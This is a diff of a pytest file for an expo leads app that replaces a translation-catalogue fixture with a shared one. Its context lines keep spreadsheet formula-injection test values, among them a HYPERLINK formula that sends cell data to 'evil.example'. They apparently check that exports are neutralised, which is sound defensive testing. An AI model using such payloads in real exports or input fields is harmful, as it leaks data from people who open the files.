@@ -7,7 +7,6 @@ import io
 import zipfile
 from datetime import datetime, timedelta, timezone
 
-import flask_babel
 import pytest
 from openpyxl import load_workbook
 from sqlalchemy import select
@@ -17,7 +16,6 @@ from expo.extensions import db
 from expo.leads import services as lead_services
 
 from ..conftest import login
-from ..test_i18n import compile_catalogues
 
 PHONE = "+86 139 1234 5678"
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
@@ -29,17 +27,9 @@ FORMULAS = {"name": '=HYPERLINK("http://evil.example/?"&A2,"click")', "company":
             "job_title": "-2+3", "notes": "@SUM(A1:A9)"}
 
 
-@pytest.fixture
-def _translations(app):
-    """The compiled Chinese catalogue, and no catalogue cached by Flask-Babel from before it existed."""
-    compile_catalogues()
-    with app.test_request_context():
-        flask_babel.get_domain().cache.clear()
-        flask_babel.refresh()
-
 
 @pytest.fixture
-def booth(make, _translations):
+def booth(make, fresh_translations):
     edition = make.edition(timezone="Asia/Shanghai")
     exhibitor = make.exhibitor(edition, "深圳宏达家具有限公司")
     admin = make.user("exhibitor_admin", exhibitor=exhibitor)
